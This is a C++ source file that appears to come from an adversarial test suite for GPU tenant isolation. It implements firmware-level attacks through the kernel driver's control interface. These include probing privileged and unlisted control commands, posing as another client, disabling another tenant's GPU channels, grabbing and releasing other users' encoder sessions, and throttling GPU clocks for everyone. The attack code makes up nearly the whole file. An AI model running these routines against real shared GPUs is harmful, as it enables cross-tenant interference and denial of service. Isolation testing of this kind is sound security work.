// Attacks by way of the GPU's firmware, which the kernel driver hands some controls unseen, and
// with what a slice is allowed of that.
#include <array>
#include <cstring>
#include <iterator>

#include "common.h"
#include "rm/control_table.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint32_t kBinary = 0xcaf00081;

template <std::size_t kSize>
std::uint32_t Ask(const Client& client, std::uint32_t object, std::uint32_t command,
                  std::array<std::uint32_t, kSize>* answer = nullptr) {
  std::array<std::uint32_t, kSize> params{};
  const std::uint32_t status = client.Control(object, command, params.data(), sizeof(params));
  if (answer != nullptr) {
    *answer = params;
  }
  return status;
}

// CLIENT SUBDEVICE: what the firmware is asked on another's subdevice, on objects other than a
// subdevice, with numbers that are not listed and with sizes that are not right.
int Unlisted(const std::vector<std::string>& args) {
  Client client = MakeClient();
  std::uint32_t status = rm::NV_OK;
  const std::uint32_t space = Space(client, &status);
  const std::uint32_t group = Group(client, space, &status);
  constexpr std::size_t k8159 = 332 / sizeof(std::uint32_t);
  Say("listed 0x%x", Ask<k8159>(client, Client::kSubdevice, rm::GSS_LEGACY_8159));
  Client posing = client;
  posing.root = static_cast<std::uint32_t>(Number(args, 0, 0));
  Say("foreign 0x%x",
      Ask<k8159>(posing, static_cast<std::uint32_t>(Number(args, 1, 0)), rm::GSS_LEGACY_8159));
  Say("device 0x%x", Ask<k8159>(client, Client::kDevice, rm::GSS_LEGACY_8159));
  Say("group 0x%x", Ask<k8159>(client, group, rm::GSS_LEGACY_8159));
  Say("privileged 0x%x", Ask<2>(client, Client::kSubdevice, 0x2080c001));
  Say("unlisted 0x%x", Ask<2>(client, Client::kSubdevice, 0x2080a0ff));
  // The word that tells is wherever it is.
  constexpr std::size_t kTelemetry = 2024 / sizeof(std::uint32_t);
  std::array<std::uint32_t, kTelemetry> load{};
  Say("load 0x%x", Ask(client, Client::kSubdevice, rm::GSS_LEGACY_A0D1, &load));
  for (const std::uint32_t word : load) {
    if (word != 0) {
      Say("word %u", word);
    }
  }
  std::vector<char> large(1U << 20);
  for (const std::uint32_t size : {1U, 331U, 333U, 1U << 20}) {
    Say("size %u 0x%x", size,
        client.Control(Client::kSubdevice, rm::GSS_LEGACY_8159, large.data(), size));
  }
  Hold();
  return 0;
}

// NUMBER SIZE...: what the firmware is asked on the client's own subdevice.
int AskFor(const std::vector<std::string>& args) {
  const Client client = MakeClient();
  for (std::size_t i = 0; i + 1 < args.size(); i += 2) {
    const auto command = static_cast<std::uint32_t>(Number(args, i, 0));
    const auto size = static_cast<std::uint32_t>(Number(args, i + 1, 0));
    std::vector<char> params(size);
    Say("asked 0x%x %u: 0x%x", command, size,
        client.Control(Client::kSubdevice, command, params.data(), size));
  }
  Hold();
  return 0;
}

// CLIENT CHANNEL: everything that is sent to an object of this class reaches the firmware, which
// asks nobody who he is.
int Forwarded(const std::vector<std::string>& args) {
  const Client client = MakeClient();
  if (const auto status = client.Alloc(Client::kSubdevice, kBinary, rm::NV2081_BINAPI, nullptr);
      status != rm::NV_OK) {
    Die("failed: no object: 0x%x", status);
  }
  Say("listed 0x%x", Ask<248>(client, kBinary, rm::BINAPI_0108));
  rm::NV2080_CTRL_FIFO_DISABLE_CHANNELS_PARAMS params{};
  params.bDisable = 1;
  params.numChannels = 1;
  params.hClientList[0] = static_cast<std::uint32_t>(Number(args, 0, 0));
  params.hChannelList[0] = static_cast<std::uint32_t>(Number(args, 1, 0));
  Say("disable 0x%x",
      client.Control(kBinary, rm::NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS, &params, sizeof(params)));
  Hold();
  return 0;
}

// Takes encoder sessions until there are no more, and then one by one when it is told to.
int Encoders(const std::vector<std::string>& args) {
  const Client client = MakeClient();
  const std::uint64_t most = Number(args, 0, 64);
  std::uint64_t taken = 0;
  std::uint32_t status = rm::NV_OK;
  while (taken < most && status == rm::NV_OK) {
    status = Ask<1>(client, Client::kSubdevice, rm::GSS_LEGACY_8163_TAKE_ENCODER);
    taken += status == rm::NV_OK ? 1 : 0;
  }
  Say("sessions %llu, then 0x%x", static_cast<unsigned long long>(taken), status);
  // Not its own: those of whoever else has some.
  std::uint64_t given = 0;
  while (taken + 64 > given && args.size() > 1 &&
         Ask<1>(client, Client::kSubdevice, rm::GSS_LEGACY_8164_GIVE_ENCODER) == rm::NV_OK) {
    ++given;
  }
  Say("given %llu", static_cast<unsigned long long>(given));
  Hold();
  return 0;
}

// Limits the clocks of the GPU for everybody.
int CudaLimit(const std::vector<std::string>& /*args*/) {
  const Client client = MakeClient();
  std::uint8_t on = 1;
  Say("limit 0x%x",
      client.Control(Client::kDevice, rm::NV0080_CTRL_CMD_PERF_CUDA_LIMIT_SET_CONTROL, &on, 1));
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> FirmwareAttacks() {
  return {
      {"firmware-unlisted", Unlisted, "CLIENT SUBDEVICE: asks the firmware what it should not"},
      {"firmware-ask", AskFor, "NUMBER SIZE...: asks the firmware for these"},
      {"firmware-forwarded", Forwarded, "CLIENT CHANNEL: the tenant's channel, by the firmware"},
      {"encoders", Encoders, "[MOST [give]]: takes encoder sessions, gives back others'"},
      {"cuda-limit", CudaLimit, ": limits the GPU's clocks"},
  };
}

}  // namespace cgpu::adversary
